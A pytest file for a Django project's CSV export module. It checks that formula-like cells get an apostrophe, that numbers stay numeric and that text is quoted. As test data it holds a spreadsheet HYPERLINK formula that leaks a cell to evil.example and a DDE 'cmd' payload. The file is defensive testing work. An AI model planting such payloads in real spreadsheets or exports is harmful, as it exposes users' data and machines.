"""Every CSV the system hands out goes through campaigns.csv_export: a cell a spreadsheet
would run as a formula (= + - @ TAB CR first) starts with an apostrophe, numbers stay numbers,
and text cells are quoted so a ";"-splitting spreadsheet keeps them whole."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from campaigns.csv_export import csv_lines, safe_cell
from campaigns.dhis2.models import Dhis2SyncRun, Dhis2SyncSkip
from campaigns.models import Role
from tests.factories import (
    api_client,
    make_api_key,
    make_campaign,
    make_issued_cards,
    make_message,
)

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Voir")'


@pytest.mark.parametrize("text", [FORMULA, "+221771234567", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_a_text_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("number", [7, -3, 2.5, -0.5, Decimal("-1.25")])
def test_numbers_stay_numbers(number):
    assert safe_cell(number) == number


def test_a_number_in_text_is_still_text():
    assert safe_cell("-3") == "'-3"


def test_dates_are_iso_and_none_is_empty():
    moment = datetime(2026, 5, 17, 8, 30, tzinfo=UTC)
    assert (safe_cell(moment), safe_cell(None)) == ("2026-05-17T08:30:00+00:00", "")


def test_text_cells_are_quoted_and_numbers_are_not():
    lines = list(csv_lines(("name", "page"), [("Awa;=1+1", 3)]))
    assert lines == ['"name","page"\r\n', '"Awa;=1+1",3\r\n']


def rows(response):
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    return list(csv.DictReader(io.StringIO(content.decode())))


@pytest.fixture
def client(program):
    return api_client(make_api_key(program=program, role=Role.VIEWER))


@pytest.mark.django_db
def test_the_campaign_export_guards_the_name(client, program):
    make_campaign(program=program, name=FORMULA)
    row, = rows(client.get("/api/campaigns/export.csv"))
    assert row["name"] == "'" + FORMULA


@pytest.mark.django_db
def test_the_message_log_guards_every_text_cell(client, program):
    card, = make_issued_cards(campaign=make_campaign(program=program), count=1,
                              with_png=False)
    make_message(card=card, channel="sms", status="failed", provider_message_id="@SUM(A1)",
                 error_code="-1", error_detail=FORMULA)
    row, = rows(client.get("/api/distribution/logs.csv"))
    assert (row["provider_message_id"], row["error_code"], row["error_detail"]) == (
        "'@SUM(A1)", "'-1", "'" + FORMULA)
    assert row["recipient"].startswith("'+22177***")


@pytest.mark.django_db
def test_the_message_log_writes_counts_as_numbers(client, program):
    card, = make_issued_cards(campaign=make_campaign(program=program), count=1,
                              with_png=False)
    message = make_message(card=card, attempt=2)
    response = client.get("/api/distribution/logs.csv")
    body = b"".join(response.streaming_content).decode()
    assert f"\r\n{message.pk},\"" in body  # the id unquoted, the date after it quoted
    assert '"whatsapp","false",2,"sent"' in body  # channel, wallet pass, attempt, status


@pytest.mark.django_db
def test_the_dhis2_skipped_entities_guard_every_cell(client, program):
    run = Dhis2SyncRun.objects.create(campaign=make_campaign(program=program),
                                      status="completed", skipped_count=1)
    Dhis2SyncSkip.objects.create(run=run, page=1, tracked_entity="+cmd|' /C calc'!A0",
                                 field="first_name", attribute="=A1", reason=FORMULA)
    response = client.get(f"/api/dhis2/syncs/{run.pk}/errors.csv")
    row, = rows(response)
    assert (row["tracked_entity"], row["attribute"], row["reason"]) == (
        "'+cmd|' /C calc'!A0", "'=A1", "'" + FORMULA)
    assert row["page"] == "1"
